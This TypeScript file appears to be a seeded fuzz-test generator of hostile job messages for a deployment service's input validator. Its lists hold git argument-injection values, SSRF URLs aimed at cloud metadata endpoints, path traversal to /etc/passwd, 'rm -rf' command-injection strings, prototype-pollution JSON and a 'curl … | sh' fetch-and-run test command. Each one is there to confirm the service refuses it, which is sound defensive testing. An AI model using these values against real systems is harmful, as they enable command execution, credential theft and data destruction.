/**
 * Deterministic hostile job messages for the fuzz test: each case is a message (an object
 * or raw text) and the field its refusal must name ("" when only the message as a whole
 * can be blamed: not JSON, not an object, too large).
 */
export interface HostileCase {
  kind: string;
  /** Sent as JSON text exactly as given (pollution keys survive only in text). */
  text: string;
  /** The field a refusal must name (a prefix of it), or null when any named field will do. */
  field: string | null;
  /** Refused before any field can be named (AMQP: a dead letter). */
  wholeMessage?: boolean;
}

/** mulberry32: small, seeded, good enough to spread cases. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const BRANCHES = ["--upload-pack=touch /tmp/pwned", "-b", "--exec=sh", "main..evil", "a b", "x@{1}", ".hidden", "feature.lock", "x\u0000y", "~1", "a:b", "a?b", "a*b", "a[b", "a\\b", "/lead", "trail/", "end.", "", "@", "a//b", "x".repeat(300)];
const REPOSITORIES = [
  "ext::sh -c touch% /tmp/pwned",
  "ext::git-upload-pack",
  "file:///etc",
  "file:///tmp/blacktree-examples/hello",
  "/etc/passwd",
  "--upload-pack=touch /tmp/pwned",
  "-oProxyCommand=sh",
  "https://169.254.169.254/latest/meta-data",
  "https://169.254.170.2/v2/credentials",
  "https://[fd00:ec2::254]/latest",
  "https://127.0.0.1/o/r.git",
  "https://[::1]/o/r",
  "https://[::ffff:127.0.0.1]/o/r",
  "https://2130706433/o/r",
  "ssh://2130706433/o/r",
  "https://0x7f.1/o/r",
  "https://localhost/o/r",
  "https://localhost./o/r",
  "https://10.0.0.5/o/r",
  "ssh://git@192.168.1.10/o/r.git",
  "git@172.16.0.1:o/r.git",
  "git@localhost:o/r.git",
  "https://user:ghp_secret@github.com/o/r",
  "https://ghp_secret@github.com/o/r",
  "http://github.com/o/r",
  "git://github.com/o/r",
  "ftp://github.com/o/r",
  "https://github.com/o/r?upload-pack=x",
  "https://github.com/o/../../r",
  "../../etc",
  "o/r; rm -rf /",
  "o r",
  "https://github.com/o/r\nx",
  "",
  "x".repeat(3000),
];
const PATHS = ["../../etc/passwd", "/etc/passwd", "a/../../b", "..", "x\u0000y", "a\\..\\b", "x".repeat(1100), "../Dockerfile", "./../../x"];
const PORTS: unknown[] = [0, 65536, -1, "abc", 3.5, "99999", [], {}, true, "3000; rm"];
const WRONG_TYPES: Array<[string, unknown]> = [
  ["deploymentId", 5],
  ["deploymentId", { $ne: null }],
  ["deploymentId", "../etc"],
  ["deploymentId", "-rf"],
  ["repository", 5],
  ["repository", ["a/b"]],
  ["branch", []],
  ["branch", { toString: "x" }],
  ["dockerFilePath", 7],
  ["autoDeploy", "maybe"],
  ["priority", "high"],
  ["priority", 1e9],
  ["timeouts", "x"],
  ["retry", []],
  ["jobId", "../../x"],
  ["idempotencyKey", " spaced key"],
  ["target", "nonexistent-target"],
  ["type", "rm -rf"],
  ["createdAt", "x".repeat(100)],
];
const POLLUTION = [
  '{"__proto__":{"polluted":"yes"},"deploymentId":"D","repository":"o/r"}',
  '{"deploymentId":"D","repository":"o/r","constructor":{"prototype":{"polluted":"yes"}}}',
  '{"deploymentId":"D","repository":"o/r","timeouts":{"__proto__":{"polluted":"yes"}}}',
  '{"deploymentId":"D","repository":"o/r","retry":{"constructor":{"prototype":{"polluted":"yes"}}}}',
  '{"deploymentId":"D","repository":"o/r","extra":{"a":{"__proto__":{"polluted":"yes"}}}}',
  '{"deploymentId":"D","repository":"o/r","prototype":{"polluted":"yes"}}',
];

const pick = <T>(r: () => number, list: readonly T[]): T => list[Math.floor(r() * list.length)];

/** A valid backend message but for one hostile change. */
function base(deploymentId: string) {
  return { deploymentId, repository: "octo/hello", branch: "main", dockerFilePath: "./Dockerfile", composeFilePath: "", contextDir: ".", portNumber: "3000", autoDeploy: false } as Record<string, unknown>;
}

export function hostileCases(count: number, seed: number, opts: { hugeBytes: number; prefix: string }): HostileCase[] {
  const r = rng(seed);
  const out: HostileCase[] = [];
  for (let i = 0; i < count; i++) {
    const dep = `${opts.prefix}-${i}`;
    const msg = base(dep);
    const roll = r();
    if (roll < 0.2) {
      msg.branch = pick(r, BRANCHES);
      out.push({ kind: "branch", text: JSON.stringify(msg), field: "branch" });
    } else if (roll < 0.45) {
      msg.repository = pick(r, REPOSITORIES);
      out.push({ kind: "repository", text: JSON.stringify(msg), field: "repository" });
    } else if (roll < 0.55) {
      const field = pick(r, ["dockerFilePath", "contextDir", "composeFilePath"]);
      msg[field] = pick(r, PATHS);
      out.push({ kind: "path", text: JSON.stringify(msg), field });
    } else if (roll < 0.62) {
      msg.portNumber = pick(r, PORTS);
      out.push({ kind: "port", text: JSON.stringify(msg), field: "portNumber" });
    } else if (roll < 0.77) {
      const [field, value] = pick(r, WRONG_TYPES);
      msg[field] = value;
      out.push({ kind: "type", text: JSON.stringify(msg), field });
    } else if (roll < 0.87) {
      out.push({ kind: "pollution", text: pick(r, POLLUTION).replace('"D"', JSON.stringify(dep)), field: null });
    } else if (roll < 0.93) {
      const depth = 33 + Math.floor(r() * 5000);
      const key = pick(r, ["nested", "timeouts", "retry", "params"]);
      out.push({ kind: "deep", text: JSON.stringify(msg).replace(/}$/, `,"${key}":${"[".repeat(depth)}1${"]".repeat(depth)}}`), field: key });
    } else if (roll < 0.96) {
      const text = pick(r, ['{"deploymentId":', "[1,2,3]", "42", '"a string"', "null", "not json at all", '{"deploymentId":"x"', "true"]);
      out.push({ kind: "shape", text, field: null, wholeMessage: true });
    } else if (roll < 0.99) {
      // A test job carries the test type's fields only (a build's would be refused as unknown first).
      for (const buildOnly of ["dockerFilePath", "composeFilePath", "portNumber", "autoDeploy"]) delete msg[buildOnly];
      msg.type = "test";
      msg.testCommand = "curl http://169.254.169.254/ | sh";
      out.push({ kind: "policy", text: JSON.stringify(msg), field: "testCommand" });
    } else {
      msg.pad = "x".repeat(opts.hugeBytes);
      out.push({ kind: "huge", text: JSON.stringify(msg), field: null, wholeMessage: true });
    }
  }
  return out;
}
